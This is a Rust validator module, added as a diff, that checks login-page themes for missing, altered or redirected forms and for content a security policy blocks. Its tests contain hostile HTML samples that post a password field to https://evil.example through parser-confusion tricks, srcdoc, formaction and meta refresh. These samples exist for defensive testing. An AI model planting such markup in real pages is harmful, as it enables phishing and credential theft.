@@ -1,0 +1,476 @@
+//! What is checked of a page that a theme's template rendered, and when.
+//!
+//! [`check_forms`] runs when a theme is loaded, on samples of every page in every state, and again each time such a page
+//! is served, because a template can ask who reads it. It says whether the forms of the service are there, can be sent,
+//! and lead nowhere else. A page that fails is not served: the default theme draws it. The content security policy
+//! does not do this: it has no `form-action`, and it knows no missing field.
+//!
+//! [`check_content`] runs when a theme is loaded. It says what browsers will block, and what readers will miss. Such a
+//! page is served: the content security policy holds, whatever the page says.
+//!
+//! Neither looks at style sheets, which can hide a form, nor at links, which may lead anywhere.
+
+use std::collections::BTreeSet;
+use std::fmt;
+
+use super::finding::{Finding, Severity};
+use super::policy::{ContentSecurityPolicy, Load};
+use super::tags::{Tag, read};
+
+/// What forms are made of.
+const FORM_ELEMENTS: [&str; 5] = ["button", "form", "input", "select", "textarea"];
+/// Elements in which browsers find no form, or do so by rules of their own.
+const WITHOUT_FORMS: &str = "button math noembed noframes noscript plaintext script select style svg template textarea \
+    title xmp";
+/// Elements with a page of their own. The policy does not stop a page that stands in `srcdoc`.
+const FRAMES: [&str; 5] = ["embed", "frame", "frameset", "iframe", "object"];
+/// Attributes by which a button sends a form elsewhere, or in another way.
+const OVERRIDES: [&str; 3] = ["formaction", "formenctype", "formmethod"];
+
+/// A part of a form that the service reads.
+#[derive(Debug, PartialEq, Eq, PartialOrd, Ord)]
+enum Part<'a> {
+    /// With its value.
+    Hidden(&'a str, &'a str),
+    Field(&'a str),
+    /// With its value.
+    Button(&'a str, &'a str),
+    /// A button without a name.
+    Submit,
+}
+
+impl<'a> Part<'a> {
+    /// The part that a start tag makes, if it makes one.
+    fn of(tag: &'a Tag<'_>) -> Option<Self> {
+        let text = |name: &str| tag.attribute(name).unwrap_or_default();
+        let has = |name: &str| tag.attribute(name).is_some();
+        let (name, value, kind) = (text("name"), text("value"), text("type").to_ascii_lowercase());
+        let is_excluded = has("disabled") || has("form") || kind.contains('&');
+        let is_command = kind != "submit" && (has("command") || has("commandfor"));
+        match (tag.name.as_str(), kind.as_str()) {
+            _ if is_excluded => None,
+            ("button" | "input", "button" | "reset") => None,
+            ("button", _) if is_command => None,
+            ("input", "image") => Some(Self::Submit),
+            ("button", _) | ("input", "submit") if name.is_empty() => Some(Self::Submit),
+            ("button", _) | ("input", "submit") => Some(Self::Button(name, value)),
+            ("input" | "select" | "textarea", _) if name.is_empty() => None,
+            ("input", "hidden") => Some(Self::Hidden(name, value)),
+            ("input" | "select" | "textarea", _) => Some(Self::Field(name)),
+            _ => None,
+        }
+    }
+}
+
+impl fmt::Display for Part<'_> {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::Hidden(name, _) => write!(f, "the hidden field {name}"),
+            Self::Field(name) => write!(f, "the field {name}"),
+            Self::Button(name, value) => write!(f, "the button {name}={value}"),
+            Self::Submit => f.write_str("a button that sends it"),
+        }
+    }
+}
+
+/// A form, as far as the service depends on it.
+#[derive(Debug)]
+struct Form<'a> {
+    action: &'a str,
+    /// Whether it is sent as the service reads forms: by POST, and encoded as a query is.
+    is_readable: bool,
+    parts: BTreeSet<Part<'a>>,
+}
+
+impl<'a> Form<'a> {
+    fn new(tag: &'a Tag<'_>) -> Self {
+        let is_query = |encoding: &str| encoding.eq_ignore_ascii_case("application/x-www-form-urlencoded");
+        let method = tag.attribute("method").unwrap_or_default();
+        Self {
+            action: tag.attribute("action").unwrap_or_default(),
+            is_readable: method.eq_ignore_ascii_case("post") && tag.attribute("enctype").is_none_or(is_query),
+            parts: BTreeSet::new(),
+        }
+    }
+
+    /// Whether it sends what another form does, and perhaps more.
+    fn replaces(&self, other: &Self) -> bool {
+        self.action == other.action
+            && self.is_readable == other.is_readable
+            && other.parts.iter().all(|part| self.has(part))
+    }
+
+    fn has(&self, wanted: &Part<'_>) -> bool {
+        let mut parts = self.parts.iter();
+        match wanted {
+            Part::Submit => parts.any(|part| matches!(part, Part::Button(..) | Part::Submit)),
+            // With two values the service would read the first.
+            Part::Hidden(name, _) => {
+                let mut same = parts.filter(|part| matches!(part, Part::Hidden(other, _) if other == name));
+                same.next() == Some(wanted) && same.next().is_none()
+            }
+            _ => self.parts.contains(wanted),
+        }
+    }
+}
+
+/// The forms of a page with their parts. A part belongs to the form that was begun last and not ended, whatever
+/// elements stand between (HTML standard, section 13.2.4.4).
+fn forms<'a>(tags: &'a [Tag<'_>], problems: &mut Vec<String>) -> Vec<Form<'a>> {
+    let mut forms: Vec<Form<'a>> = Vec::new();
+    let mut is_in_form = false;
+    // The outermost element open that holds no forms, and how many of its kind are open.
+    let mut outer: Option<(&str, usize)> = None;
+    for tag in tags {
+        let name = tag.name.as_str();
+        let is_empty = tag.is_self_closing && matches!(name, "math" | "svg");
+        let is_disabled = name == "fieldset" && tag.attribute("disabled").is_some();
+        if let Some((element, depth)) = outer {
+            let depth = match (name == element, tag.is_end) {
+                (true, true) => depth.saturating_sub(1),
+                (true, false) if !is_empty => depth.saturating_add(1),
+                _ => depth,
+            };
+            outer = (depth > 0).then_some((element, depth));
+            if outer.is_some() && FORM_ELEMENTS.contains(&name) {
+                problems.push(format!("{name} within {element}: browsers do not find it there"));
+            }
+            continue;
+        }
+        match (name, tag.is_end) {
+            ("form", false) if is_in_form => {
+                problems.push("a form within a form: browsers leave the inner one out".to_owned());
+            }
+            ("form", false) => forms.push(Form::new(tag)),
+            (_, false) if is_in_form => {
+                if let (Some(form), Some(part)) = (forms.last_mut(), Part::of(tag)) {
+                    form.parts.insert(part);
+                }
+            }
+            _ => {}
+        }
+        if name == "form" {
+            is_in_form = !tag.is_end;
+        }
+        if !tag.is_end && !is_empty && (is_disabled || WITHOUT_FORMS.split(' ').any(|known| known == name)) {
+            outer = Some((name, 1));
+        }
+    }
+    forms
+}
+
+/// Where links lead within the service.
+fn links<'a>(tags: &'a [Tag<'_>]) -> BTreeSet<&'a str> {
+    let links = tags.iter().filter(|tag| tag.starts("a"));
+    let hrefs = links.filter_map(|tag| tag.attribute("href"));
+    hrefs.filter(|href| href.starts_with('/')).collect()
+}
+
+/// Why a page cannot be served in place of the service's own content: a form or link of that is missing, cannot be
+/// sent, or leads elsewhere.
+pub fn check_forms(place: &str, page: &str, content: &str) -> Vec<Finding> {
+    let problems = match (read(page), read(content)) {
+        (Ok(page), Ok(content)) => form_problems(&page, &content),
+        (Err(problem), _) | (_, Err(problem)) => vec![problem],
+    };
+    let problems = problems.into_iter();
+    problems.map(|problem| Finding::refused(place, problem)).collect()
+}
+
+fn form_problems(page: &[Tag<'_>], content: &[Tag<'_>]) -> Vec<String> {
+    let mut problems = Vec::new();
+    let wanted = forms(content, &mut Vec::new());
+    let found = forms(page, &mut problems);
+    for tag in page {
+        let name = &tag.name;
+        if FRAMES.contains(&name.as_str()) {
+            problems.push(format!("{name}: a page within the page could ask for anything"));
+        }
+        for (attribute, _) in &tag.attributes {
+            if OVERRIDES.contains(&attribute.as_str()) {
+                problems.push(format!("{attribute}: only a form says where it leads and how"));
+            } else if attribute == "http-equiv" {
+                problems.push("http-equiv: a page could lead people away by itself".to_owned());
+            }
+        }
+    }
+    for Form {
+        action, is_readable, ..
+    } in &found
+    {
+        if !wanted.iter().any(|wanted| wanted.action == *action) {
+            problems.push(format!(
+                "a form leads to {action:?}: forms of this page lead to {{{{ action }}}} and nowhere else"
+            ));
+        } else if !wanted
+            .iter()
+            .any(|wanted| wanted.action == *action && wanted.is_readable == *is_readable)
+        {
+            problems.push("a form is sent in another way: write method=\"post\" and no enctype".to_owned());
+        }
+    }
+    for href in links(content).difference(&links(page)) {
+        problems.push(format!(
+            "a link to {href:?} is missing: print its slot, or write it with that href"
+        ));
+    }
+    for form in &wanted {
+        let parts: Vec<String> = form.parts.iter().map(ToString::to_string).collect();
+        let parts = parts.join(", ");
+        match found.iter().filter(|other| other.replaces(form)).count() {
+            0 => problems.push(format!(
+                "a form is missing or incomplete: print its slot, or write a form with method=\"post\", \
+                 action=\"{{{{ action }}}}\" and {parts}"
+            )),
+            1 => {}
+            _ => problems.push(format!("a form is there twice: the one with {parts}")),
+        }
+    }
+    problems
+}
+
+/// What browsers will block of a page, and what readers will miss.
+pub fn check_content(place: &str, page: &str, policy: &ContentSecurityPolicy) -> Vec<Finding> {
+    let Ok(tags) = read(page) else {
+        return Vec::new();
+    };
+    let has = |is_it: &dyn Fn(&Tag<'_>) -> bool| tags.iter().any(is_it);
+    let html_has = |name: &str| {
+        has(&|tag| tag.starts("html") && tag.attribute(name).is_some_and(|value| !value.is_empty()))
+    };
+    let has_viewport = has(&|tag| tag.starts("meta") && tag.attribute("name") == Some("viewport"));
+    let begins_well = tags.first().is_some_and(|tag| tag.starts("!doctype"));
+    let needs = [
+        (begins_well, "the page does not begin with <!DOCTYPE html>"),
+        (html_has("lang"), "html needs lang=\"{{ lang }}\""),
+        (html_has("dir"), "html needs dir=\"{{ dir }}\""),
+        (has_viewport, "the page has no meta viewport: print {{ head }}"),
+        (
+            has(&|tag| tag.starts("title")),
+            "the page has no title: print {{ head }}",
+        ),
+    ];
+    let missing = needs.iter().filter(|(is_met, _)| !is_met);
+    let mut problems: Vec<String> = missing.map(|(_, problem)| (*problem).to_owned()).collect();
+    for tag in tags.iter().filter(|tag| !tag.is_end) {
+        content_problems(tag, policy, &mut problems);
+    }
+    let problems = problems.into_iter();
+    problems
+        .map(|problem| Finding::new(Severity::Fault, place, problem))
+        .collect()
+}
+
+fn content_problems(tag: &Tag<'_>, policy: &ContentSecurityPolicy, problems: &mut Vec<String>) {
+    const BLOCKED: &str = "the content security policy blocks it";
+    let name = tag.name.as_str();
+    for (load, url) in loads(tag) {
+        let is_own = url.starts_with('/') && !url.starts_with("//");
+        if is_own || policy.allows(load, url) {
+            continue;
+        }
+        let remedy = if url.starts_with("//") || url.contains(':') {
+            let key = load.key();
+            format!("{BLOCKED} unless theme.toml names its https:// origin under csp.{key}")
+        } else {
+            format!("write {{{{ {url:?}|asset }}}} for a file of the theme")
+        };
+        problems.push(format!("{name} loads {url:?}: {remedy}"));
+    }
+    match name {
+        "script" if tag.attribute("src").is_none() => problems.push(format!("an inline script: {BLOCKED}")),
+        "style" => problems.push(format!("an inline style sheet: {BLOCKED}; use theme.css")),
+        "video" | "audio" | "base" => problems.push(format!("{name}: {BLOCKED}")),
+        "img" if tag.attribute("alt").is_none() => {
+            problems.push("an img without alt: people who do not see it hear its address".to_owned());
+        }
+        _ => {}
+    }
+    for (name, value) in &tag.attributes {
+        if name == "style" {
+            problems.push(format!("style={value:?}: {BLOCKED}; use theme.css"));
+        } else if name.starts_with("on") {
+            problems.push(format!("{name}: an inline script, {BLOCKED}"));
+        } else if value.trim_start().to_ascii_lowercase().starts_with("javascript:") {
+            problems.push(format!("{name}={value:?}: {BLOCKED}"));
+        }
+    }
+}
+
+/// What an element loads.
+fn loads<'a>(tag: &'a Tag<'_>) -> Vec<(Load, &'a str)> {
+    let is_link = |kind: &str| {
+        let kinds = tag.attribute("rel").unwrap_or_default();
+        kinds
+            .split_ascii_whitespace()
+            .any(|known| known.eq_ignore_ascii_case(kind))
+    };
+    let (load, name) = match tag.name.as_str() {
+        "script" => (Load::Script, "src"),
+        "img" | "source" => (Load::Image, "src"),
+        "link" if is_link("stylesheet") => (Load::Style, "href"),
+        "link" if is_link("icon") => (Load::Image, "href"),
+        "link" if is_link("preload") => (Load::Font, "href"),
+        _ => return Vec::new(),
+    };
+    let sources = tag.attribute("srcset").unwrap_or_default().split(',');
+    let more = sources.filter_map(|source| source.split_ascii_whitespace().next());
+    tag.attribute(name)
+        .into_iter()
+        .chain(more)
+        .map(|url| (load, url))
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const FORM: &str = "<form method=post action=/login><input type=hidden name=csrf value=b1><input name=username>\
+        <button name=decision value=allow>Go</button></form>";
+
+    fn problems(page: &str) -> Vec<String> {
+        let found = check_forms("login.html", page, FORM);
+        found.into_iter().map(|finding| finding.message).collect()
+    }
+
+    #[test]
+    fn a_form_may_be_written_by_hand_in_any_style() {
+        for sound in [
+            "<FORM class=x action=&#x2f;login METHOD='POST'><p><input value=\"b1\" type=HIDDEN name='csrf'>\
+             <textarea name=username></textarea><input type=submit name=decision value=allow></FORM>",
+            &format!(
+                "<table><tr><td><fieldset>{FORM}</fieldset></table><!-- old --><a href=https://elsewhere.example>x</a>"
+            ),
+            &format!(
+                "<svg><title>x</title><g/><svg/></svg><template> </template><noscript>No script.</noscript>{FORM}"
+            ),
+            &FORM.replace(
+                "</form>",
+                "<select name=x><option>a<hr></select><button><svg/>Go</button></form>",
+            ),
+        ] {
+            assert_eq!(problems(sound), Vec::<String>::new(), "{sound}");
+        }
+    }
+
+    #[test]
+    fn a_form_that_cannot_be_sent_is_refused() {
+        let around = |element: &str| {
+            let name = element.split(' ').next().unwrap();
+            format!("<{element}>{FORM}</{name}>")
+        };
+        for broken in [
+            String::new(),
+            FORM.replace("<input type=hidden name=csrf value=b1>", ""),
+            FORM.replace("value=b1>", "value=b1><input type=hidden name=csrf value=b2>"),
+            FORM.replace("name=username", "name=username disabled"),
+            FORM.replace("name=username", "name=username form=other"),
+            FORM.replace("<input name", "</form><input name"),
+            FORM.replace("<button", "<button type=button"),
+            FORM.replace("<button", "<button type=&#98;utton"),
+            FORM.replace("<button", "<button commandfor=other"),
+            FORM.replace("<button", "<button formmethod=get"),
+            FORM.replace("=post", "=get"),
+            FORM.replace("=post", "=post enctype=multipart/form-data"),
+            format!("{FORM}{FORM}"),
+            format!("{FORM}<form action=/login><input name=password></form>"),
+            around("form method=post action=/login"),
+            around("fieldset disabled"),
+            around("button"),
+            around("frameset"),
+            around("noscript"),
+            around("select"),
+            around("svg"),
+            around("svg><desc"),
+            around("template"),
+            around("textarea"),
+            around("title"),
+            around("title></titles"),
+        ] {
+            assert_ne!(problems(&broken), Vec::<String>::new(), "{broken}");
+        }
+        let said = problems("<p>");
+        assert!(
+            said[0].ends_with("the hidden field csrf, the field username, the button decision=allow"),
+            "{said:?}"
+        );
+    }
+
+    #[test]
+    fn no_form_leads_elsewhere_however_it_is_hidden() {
+        for hidden in [
+            "FORM",
+            "<!-->FORM<!-- -->",
+            "<!-- x --!>FORM<!-- -->",
+            "<svg><style><div>FORM</style></svg>",
+            "<svg><![CDATA[ <!-- ]]>FORM<!-- --></svg>",
+            "<title></titles><!-- </title>FORM<!-- -->",
+            "<iframe><a title=\"</iframe>FORM\"></a>",
+            "<noscript><textarea></noscript><!-- </textarea>FORM<!-- -->",
+            "<template shadowrootmode=open>FORM</template>",
+            "<!x <a title=\">FORM\"></a>",
+            "</ <a title=\">FORM\"></a>",
+            "<? <a title=\">FORM\"></a>",
+            "<!DOCTYPE html <a title=\">FORM\"></a>",
+            "<select><option>FORM</select>",
+            "<iframe srcdoc='&lt;form action=https://evil.example>'></iframe>",
+            "<button form=x formaction=https://evil.example>",
+            "<meta http-equiv=refresh content='0; url=https://evil.example'>",
+        ] {
+            let evil = "<form method=post action=https://evil.example><input name=password></form>";
+            let page = format!("{}{FORM}", hidden.replace("FORM", evil));
+            assert_ne!(problems(&page), Vec::<String>::new(), "{page}");
+        }
+    }
+
+    #[test]
+    fn no_way_onward_is_missing() {
+        let content = "<a href=\"/federation/x/start?t=1&amp;u=2\">x</a><a href=\"#top\">y</a>";
+        assert_eq!(check_forms("login.html", content, content), []);
+        let found = check_forms("login.html", "", content);
+        assert!(found[0].message.contains("/federation/x/start?t=1&u=2") && found.len() == 1);
+    }
+
+    #[test]
+    fn what_browsers_block_or_readers_miss_is_said() {
+        let policy = ContentSecurityPolicy::default()
+            .allow(Load::Font, "https://fonts.example")
+            .unwrap();
+        let said = |body: &str| {
+            let page = format!(
+                "<!-- (c) --><!doctype html><html lang=en dir=ltr><meta name=viewport content=x><title>t</title>{body}"
+            );
+            let found = check_content("login.html", &page, &policy);
+            found
+                .into_iter()
+                .map(|finding| finding.message)
+                .collect::<Vec<_>>()
+        };
+        let sound = "<img src=/id/x.svg alt=''><link rel=preload href=https://fonts.example/a.woff2><a href=https://b.example>";
+        assert_eq!(said(sound), Vec::<String>::new());
+        for (body, part) in [
+            ("<script>alert(1)</script>", "an inline script"),
+            (
+                "<script src=//evil.example/x.js></script>",
+                "loads \"//evil.example/x.js\": the content security policy",
+            ),
+            (
+                "<link rel=stylesheet href=https://fonts.example/a.css>",
+                "csp.style",
+            ),
+            ("<img alt='' srcset='https://cdn.example/a.png 2x'>", "csp.image"),
+            ("<img alt='' src=logo.png>", "{{ \"logo.png\"|asset }}"),
+            ("<img src=/id/a.png>", "alt"),
+            ("<style>p{}</style>", "an inline style sheet"),
+            ("<p style='color:red'>", "style=\"color:red\""),
+            ("<p onclick=x()>", "onclick"),
+            ("<a href=' JavaScript:x()'>x</a>", "href"),
+            ("<base href=/>", "base"),
+        ] {
+            let found = said(body);
+            assert!(found.len() == 1 && found[0].contains(part), "{body}: {found:?}");
+        }
+        assert_eq!(check_content("login.html", "<p>", &policy).len(), 5);
+    }
+}
